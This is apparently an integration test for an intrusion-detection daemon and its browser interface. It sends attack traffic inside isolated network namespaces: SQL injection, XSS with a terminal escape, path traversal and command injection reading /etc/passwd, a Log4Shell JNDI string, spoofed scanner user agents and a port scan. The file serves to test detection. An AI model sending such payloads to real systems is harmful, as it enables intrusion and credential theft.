#!/usr/bin/env python3
# alone: a browser and short times
"""The page in a browser: a daemon that watches a veth in a namespace without any other network, attacks that come over
it, and tests/ui/page.mjs, which logs in, sees an alert arrive, opens its why, and blocks who attacks.

EC_PICTURE=FILE takes the picture of the README, with more traffic."""
import os
import random
import shutil
import socket
import subprocess
import sys
import threading
import time

from libtest import wait_for

ECYBERD, BUILD, TMP = os.environ["ECYBERD"], os.environ["EC_BUILD"], os.environ["EC_TMP"]
HOST, OUTSIDE = ("epg%dh" % os.getpid(), "epg%do" % os.getpid())
HERE, THERE = "10.66.0.10", "198.51.100.7"
PORT, WEB = 8000, 8080
EVIL = "<img/src=x/onerror=document.title=1>\x1b[31m"


def skip(why):
    print("SKIP: " + why)
    sys.exit(77)


def sh(*words, **more):
    return subprocess.run(words, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False, **more)


def inside(ns):
    return "nsenter", "--net=/run/netns/" + ns


def tools():
    """Playwright and axe, from their lock file, kept in the build folder. No browser is fetched."""
    source, folder = os.environ["EC_SRC"] + "/tests/ui", BUILD + "/tests/ui"
    os.makedirs(folder, exist_ok=True)
    for name in os.listdir(source):
        if name != "node_modules":
            shutil.copy(source + "/" + name, folder + "/" + name)
    lock, kept = folder + "/package-lock.json", folder + "/installed.json"
    if not os.path.exists(kept) or open(kept, encoding="utf-8").read() != open(lock, encoding="utf-8").read():
        done = sh("timeout", "60", "npm", "ci", "--ignore-scripts", "--no-audit", "--no-fund", "--prefer-offline",
                  "--fetch-retries=1", "--fetch-timeout=20000", cwd=folder)
        if done.returncode:
            skip("npm could not fetch Playwright")
        shutil.copy(lock, kept)
    return folder


def wire():
    """OUTSIDE attacks, HOST is watched; there is nothing else."""
    for ns in (HOST, OUTSIDE):
        if sh("ip", "netns", "add", ns).returncode:
            skip("it needs root and network namespaces")
    sh(*inside(HOST), "ip", "link", "add", "v1", "type", "veth", "peer", "name", "v0", "netns", OUTSIDE)
    for ns, dev, own, other in ((HOST, "v1", HERE, THERE), (OUTSIDE, "v0", THERE, HERE)):
        sh(*inside(ns), "ip", "link", "set", "lo", "up")
        sh(*inside(ns), "ip", "addr", "add", own + "/32", "dev", dev)
        sh(*inside(ns), "ip", "link", "set", dev, "up")
        done = sh(*inside(ns), "ip", "route", "add", other, "dev", dev)
        if done.returncode:
            skip("there is no veth: " + done.stdout)


def enter(ns):
    """This thread alone."""
    with open("/run/netns/" + ns, "rb") as file:
        import ctypes
        if ctypes.CDLL(None, use_errno=True).setns(file.fileno(), 0x40000000):
            raise OSError(ctypes.get_errno(), "setns")


def serve():
    """A web server of few words on the watched host."""
    enter(HOST)
    listener = socket.create_server((HERE, WEB))
    while True:
        peer, _ = listener.accept()
        try:
            peer.settimeout(2)
            peer.recv(4096)
            peer.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n")
        except OSError:
            pass
        peer.close()


def ask(path, agent="Mozilla/5.0"):
    """From outside; does it come through?"""
    try:
        with socket.create_connection((HERE, WEB), timeout=2) as s:
            s.sendall(("GET %s HTTP/1.1\r\nHost: www.shop.test\r\nUser-Agent: %s\r\n\r\n" % (path, agent)).encode())
            return s.recv(100).startswith(b"HTTP/1.1 200")
    except OSError:
        return False


def scan():
    """Every port up to 1024, as nmap -sT does."""
    for port in range(1, 1025):
        with socket.socket() as s:
            s.setblocking(False)
            s.connect_ex((HERE, port))


def attacks(stop):
    """What the browser's test asks for, and some traffic, so that there is something to see."""
    enter(OUTSIDE)
    n = 0
    while not stop.is_set():
        if os.path.exists(TMP + "/want-attack"):
            ask("/item?id=1%20UNION%20SELECT%20name,%20password%20FROM%20users&n={}&x={}".format(n, EVIL))
            os.unlink(TMP + "/want-attack")
        if os.path.exists(TMP + "/want-scan"):
            scan()
            os.unlink(TMP + "/want-scan")
        if os.path.exists(TMP + "/want-probe"):
            time.sleep(0.5)
            with open(TMP + "/probe", "w", encoding="ascii") as file:
                file.write("open" if ask("/probe") else "shut")
            os.unlink(TMP + "/want-probe")
        n += 1
        if os.path.exists(TMP + "/picture"):
            for _ in range(int(random.gauss(12, 3) + (20 if n % 90 < 25 else 0))):
                ask("/shop/%d" % random.randrange(1000))
            if random.random() < 0.2:
                ask(random.choice(("/../../../../etc/passwd", "/?x=${jndi:ldap://x.test/a}",
                                   "/item?id=1'%20or%20'1'='1", "/cgi?cmd=;cat%20/etc/passwd")),
                    random.choice(("sqlmap/1.7.2", "Mozilla/5.0", "Mozilla/5.00 (Nikto/2.1.6)")))
        stop.wait(0.1)


def database():
    """The test database that says where THERE is, where there is one."""
    path = os.environ["EC_DATA"] + "/geoip/places.mmdb"
    return path if os.path.exists(path) else None


def daemon(log):
    """In HOST, in a folder of its own: the processes that a start by root makes."""
    words = [*inside(HOST), ECYBERD, "-i", "v1", "--user", "root", "--set", "core.state_dir=%s/state" % TMP, "--set",
             "core.control_socket=%s/control.sock" % TMP, "--set", "http.listen=127.0.0.1:%d" % PORT,
             "--set", "http.socket=%s/api.sock" % TMP, "--set", "auth.registration=approval",
             "--set", "auth.smtp.server=127.0.0.1:1", "--set", "auth.smtp.from=ecyber@example.org"]
    if database():
        words += ["--set", "geoip.databases=[%s]" % database()]
    return subprocess.Popen(words, stdout=log, stderr=log)


def answers():
    ask_it = "import socket; socket.create_connection(('127.0.0.1', %d), 1)" % PORT
    return sh(*inside(HOST), sys.executable, "-c", ask_it).returncode == 0


def main():
    if not (shutil.which("npm") and shutil.which("node") and shutil.which("chromium")):
        skip("npm or Chromium is not there")
    if not os.path.exists(BUILD + "/plugins/page/dist/app.js.gz"):
        skip("the page was left out of this build")
    if os.geteuid():
        skip("it needs root and network namespaces")
    folder, stop = tools(), threading.Event()
    os.chmod(TMP, 0o755)
    log = open("daemon.log", "w", encoding="utf-8")
    running = None
    try:
        wire()
        running = daemon(log)
        threading.Thread(target=serve, daemon=True).start()
        worker = threading.Thread(target=attacks, args=(stop,))
        worker.start()
        secret = TMP + "/state/auth/first-password"
        if not wait_for(answers) or not wait_for(lambda: os.path.exists(secret)):
            print("not ok 1 - the daemon answers on port %d and has a one-time password" % PORT)
            return 1
        firewall = os.path.exists(os.environ["EC_PLUGINDIR"] + "/firewall.so")
        environment = {**os.environ, "EC_FIREWALL": "yes" if firewall else "no", "HOME": TMP,
                       "EC_CHROMIUM": shutil.which("chromium")}
        if database():
            environment["EC_COUNTRY"] = "Brazil"
        return subprocess.run([*inside(HOST), "node", folder + "/page.mjs", "http://127.0.0.1:%d/" % PORT, secret, TMP],
                              env=environment, check=False).returncode
    finally:
        stop.set()
        if running:
            running.terminate()
            try:
                running.wait(20)
            except subprocess.TimeoutExpired:
                running.kill()
                print("not ok - the daemon ends")
        for ns in (HOST, OUTSIDE):
            sh("ip", "netns", "del", ns)
        if os.path.exists(TMP + "/failed.png"):
            shutil.copy(TMP + "/failed.png", BUILD + "/log/page-failed.png")
            print("# what the browser showed: %s/log/page-failed.png" % BUILD)
        log.close()
        for line in open("daemon.log", encoding="utf-8", errors="replace"):
            print("# " + line.rstrip())


sys.exit(main())
